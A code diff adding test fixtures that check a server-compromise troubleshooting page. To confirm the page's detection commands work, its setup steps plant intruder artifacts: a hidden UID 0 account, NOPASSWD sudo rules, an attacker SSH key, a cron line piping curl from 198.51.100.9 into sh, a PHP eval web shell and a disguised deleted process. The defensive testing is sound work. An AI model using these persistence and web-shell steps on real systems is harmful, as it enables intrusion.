@@ -147,6 +147,12 @@ const keygen = {
 };
 const borgPassphrase = 'Test passphrase 1\n';
 
+/** The server-hacked page's sshd settings check and its list of recent files in /usr that no package owns. */
+const sshdKeysGrep =
+  "grep -rEi '^[[:space:]]*(include|match|authorizedkeys|authorizedprincipals|trustedusercakeys)' /etc/ssh/sshd_config /etc/ssh/sshd_config.d/";
+const usrUnowned =
+  "find /usr -xdev -type f -ctime -7 ! -name '*.pyc' | sort | comm -23 - <(sed -E 's#^/(s?bin|lib)#/usr/\\1#' /var/lib/dpkg/info/*.list | sort -u)";
+
 export const PAGES: Readonly<Record<string, PageSpec>> = {
   // Safety nets before a reinstall, a cancellation, a migration.
   '/services/os/reinstall': {
@@ -507,6 +513,159 @@ export const PAGES: Readonly<Record<string, PageSpec>> = {
     fixtures: ['www-site'],
     blocks: {
       'recent-php': {checks: [{command: "find /var/www -name '*.php' -mtime -7 -print", prints: '/var/www/example.com/public/index.php'}]},
+    },
+  },
+  // A compromised server: every check of the page must find what an intruder left (a second UID 0,
+  // a sudo rule, a key of www-data, a cron job, units no package owns, a miner running deleted from
+  // /dev/shm under a kernel thread's name, a web shell, a changed program), not merely run.
+  '/troubleshooting/server-hacked': {
+    fixtures: ['www-site'],
+    blocks: {
+      quick: {
+        before: [
+          'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd',
+          "echo 'user ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-backup && chmod 440 /etc/sudoers.d/90-backup",
+          'usermod -s /bin/bash www-data',
+          "install -d -m 700 -o www-data -g www-data /var/www/.ssh && ssh-keygen -q -t ed25519 -N '' -C x@evil -f /tmp/evil",
+          'install -m 600 -o www-data -g www-data /tmp/evil.pub /var/www/.ssh/authorized_keys',
+          "echo '* * * * * curl -fsSL http://198.51.100.9/x.sh | sh' | crontab -u www-data -",
+          "echo '@reboot root /usr/local/bin/.syslogd' >/etc/cron.d/syslogd",
+          "printf '[Service]\\nExecStart=/usr/local/bin/.syslogd\\n' >/etc/systemd/system/dbus-helper.service",
+          'cp /etc/systemd/system/dbus-helper.service /usr/lib/systemd/system/kthreadd-helper.service',
+          'printf \'<?php @eval(base64_decode($_POST["x"])); ?>\\n\' >/var/www/example.com/public/uploads/cache.php',
+          'touch -d 2023-01-01 /var/www/example.com/public/uploads/cache.php',
+          'echo >>/usr/bin/pinky',
+          'cp /bin/sleep /dev/shm/kswapd0',
+          "(exec -a '[kworker/0:3]' /dev/shm/kswapd0 600 </dev/null >/dev/null 2>&1 &)",
+          'sleep 0.5 && rm /dev/shm/kswapd0',
+          // A login from 203.0.113.66 two days ago, and a failed one from 198.51.100.23.
+          'when=$(date -u -d "2 days ago" +%Y-%m-%dT%H:%M:%S),000000+00:00',
+          'echo "[7] [04242] [ts/0] [root    ] [pts/0       ] [203.0.113.66        ] [203.0.113.66   ] [$when]" | utmpdump -r >>/var/log/wtmp',
+          'echo "[6] [04243] [    ] [admin   ] [ssh:notty   ] [198.51.100.23       ] [198.51.100.23  ] [$when]" | utmpdump -r >>/var/log/btmp',
+        ],
+        checks: [
+          {command: "awk -F: '$3 == 0 {print $1}' /etc/passwd", prints: 'sysd'},
+          'last -Fi -n 20 | grep -q "^root .*203\\.0\\.113\\.66"',
+        ],
+      },
+      // Evidence goes to a new dated folder: a snapshot another article wrote to /root/incident stays.
+      evidence: {
+        before: ['mkdir -p /root/incident && echo earlier >/root/incident/ps.txt'],
+        checks: [
+          'grep -qx earlier /root/incident/ps.txt',
+          'gzip -t /root/incident/*/var-log.tar.gz',
+          'tar -tzf /root/incident/*/var-log.tar.gz | grep -qx var/log/dpkg.log',
+          'tar -tzf /root/incident/*/var-log.tar.gz | grep -qx var/log/wtmp',
+          'gzip -t /root/incident/*/persist.tar.gz',
+          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx var/spool/cron/crontabs/www-data',
+          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx var/www/.ssh/authorized_keys',
+          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx etc/sudoers.d/90-backup',
+          'grep -q "/dev/shm/kswapd0 (deleted)" /root/incident/*/exe.txt',
+          'grep -q 203.0.113.66 /root/incident/*/last.txt',
+          'grep -q "kworker/0:3" /root/incident/*/ps.txt',
+        ],
+      },
+      fetch: {
+        fixtures: ['sshd-loopback'],
+        cwd: '/tmp/laptop',
+        checks: [
+          'cmp /tmp/laptop/incident/*/var-log.tar.gz /root/incident/*/var-log.tar.gz',
+          'grep -qx earlier /tmp/laptop/incident/ps.txt',
+        ],
+      },
+      logins: {checks: ['last -Fi -n 30 | grep -q 203.0.113.66', 'lastb -Fi -n 30 | grep -q "^admin .*198\\.51\\.100\\.23"']},
+      // An SSH session without a terminal, which only ss shows.
+      sessions: {before: ['ssh -f root@127.0.0.1 sleep 60'], checks: [`ss -Htnp state established '( sport = :22 )' | grep -q '"sshd"'`]},
+      // #include is a directive of sudoers, not a comment: the rule it pulls in must not hide.
+      'root-users': {
+        before: [
+          "echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/.sudo-x && chmod 440 /etc/.sudo-x && echo '#include /etc/.sudo-x' >>/etc/sudoers",
+          'visudo -c',
+        ],
+        checks: [
+          {command: "awk -F: '$3 == 0 {print $1}' /etc/passwd", prints: 'sysd'},
+          {
+            command: "grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/*",
+            prints: '/etc/sudoers.d/90-backup:user ALL=(ALL) NOPASSWD: ALL',
+          },
+          {command: "grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/*", prints: '/etc/sudoers:#include /etc/.sudo-x'},
+          "! grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/* | grep -q '# '",
+          {command: "awk -F: '$7 !~ /(nologin|false|sync)$/ {print $1, $3, $6, $7}' /etc/passwd", prints: 'www-data 33 /var/www /bin/bash'},
+        ],
+      },
+      keys: {
+        before: ["printf 'Match User www-data\\n    AuthorizedKeysFile /var/tmp/.k\\n' >/etc/ssh/sshd_config.d/zz-backup.conf"],
+        checks: [
+          {
+            command:
+              'getent passwd | cut -d: -f1,6 | while IFS=: read -r user home; do for f in "$home/.ssh/authorized_keys" "$home/.ssh/authorized_keys2"; do if [ -f "$f" ]; then echo "== $user: $f"; ssh-keygen -lf "$f"; fi; done; done',
+            prints: '== www-data: /var/www/.ssh/authorized_keys',
+          },
+          'ssh-keygen -lf /var/www/.ssh/authorized_keys | grep -q "x@evil (ED25519)"',
+          // A Match block that sshd -T without -C would not show.
+          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config:Include /etc/ssh/sshd_config.d/*.conf'},
+          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config.d/zz-backup.conf:Match User www-data'},
+          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config.d/zz-backup.conf:    AuthorizedKeysFile /var/tmp/.k'},
+        ],
+      },
+      cron: {
+        checks: [
+          {
+            command:
+              "find /var/spool/cron/crontabs /etc/cron.d /etc/crontab -type f -exec grep -Hv -e '^[[:space:]]*#' -e '^[[:space:]]*$' {} +",
+            prints: '/var/spool/cron/crontabs/www-data:* * * * * curl -fsSL http://198.51.100.9/x.sh | sh',
+          },
+          {
+            command:
+              'for f in /etc/cron.d/* /etc/cron.daily/*; do [ -e "$f" ] || continue; dpkg -S "$f" >/dev/null 2>&1 || echo "no package: $f"; done',
+            prints: 'no package: /etc/cron.d/syslogd',
+          },
+        ],
+      },
+      units: {
+        checks: [
+          "find /etc/systemd/system -type f -printf '%CY-%Cm-%Cd %CH:%CM  %p\\n' | grep -q ' /etc/systemd/system/dbus-helper.service$'",
+          {
+            command:
+              'for f in /usr/lib/systemd/system/*.service /usr/lib/systemd/system/*.timer; do dpkg -S "$f" >/dev/null 2>&1 || dpkg -S "${f#/usr}" >/dev/null 2>&1 || echo "no package: $f"; done',
+            prints: 'no package: /usr/lib/systemd/system/kthreadd-helper.service',
+          },
+          // Units of packages (cron's is registered under /lib) are not reported.
+          '! for f in /usr/lib/systemd/system/*.service /usr/lib/systemd/system/*.timer; do dpkg -S "$f" >/dev/null 2>&1 || dpkg -S "${f#/usr}" >/dev/null 2>&1 || echo "no package: $f"; done | grep -q /cron.service',
+        ],
+      },
+      processes: {
+        checks: [
+          `for p in /proc/[0-9]*; do printf '%s %s\\n' "\${p#/proc/}" "$(readlink "$p/exe")"; done | grep -E '\\(deleted\\)|/tmp/|/var/tmp/|/dev/shm/' | grep -q '/dev/shm/kswapd0 (deleted)'`,
+          `ps -eo pid,ppid,user,cmd | awk '$4 ~ /^\\[/ && $2 != 2 && $1 != 2' | grep -q 'kworker/0:3'`,
+        ],
+      },
+      web: {
+        checks: [
+          {command: "find /var/www -path '*/uploads/*' -name '*.php'", prints: '/var/www/example.com/public/uploads/cache.php'},
+          {
+            command: "grep -rlE --include='*.php' 'eval\\((base64_decode|gzinflate|str_rot13)|eval\\(\\$_(POST|GET|REQUEST)' /var/www",
+            prints: '/var/www/example.com/public/uploads/cache.php',
+          },
+          // The web shell's forged date hides it from -mtime, not from -ctime.
+          "find /var/www -type f -ctime -7 -printf '%C+ %u %p\\n' | grep -q ' /var/www/example.com/public/uploads/cache.php$'",
+        ],
+      },
+      // After an upgrade rewrites hundreds of files in /usr, the intruder's files are still listed.
+      'system-files': {
+        before: [
+          'install -m 755 /bin/true /usr/local/bin/.syslogd',
+          // What dpkg does to each file of an upgraded package, here to some 450 files of /usr/bin.
+          `find /usr/bin -maxdepth 1 -type f -size -200k -exec sh -c 'cp -p "$1" "$1.dpkg-new" && mv "$1.dpkg-new" "$1"' _ {} ';'`,
+        ],
+        checks: [
+          "find /etc /root /home /opt /tmp /var/tmp /dev/shm -xdev -type f -ctime -7 -printf '%C+ %p\\n' | sort | grep -q ' /etc/cron.d/syslogd$'",
+          {command: usrUnowned, prints: '/usr/lib/systemd/system/kthreadd-helper.service'},
+          {command: usrUnowned, prints: '/usr/local/bin/.syslogd'},
+          `! ${usrUnowned} | grep -qx /usr/bin/ls`,
+        ],
+      },
+      verify: {checks: [{command: 'dpkg --verify', prints: '??5??????   /usr/bin/pinky'}]},
     },
   },
   // Disk replacement in a RAID 1, on image files: the new disk gets the table, the healthy one is untouched.
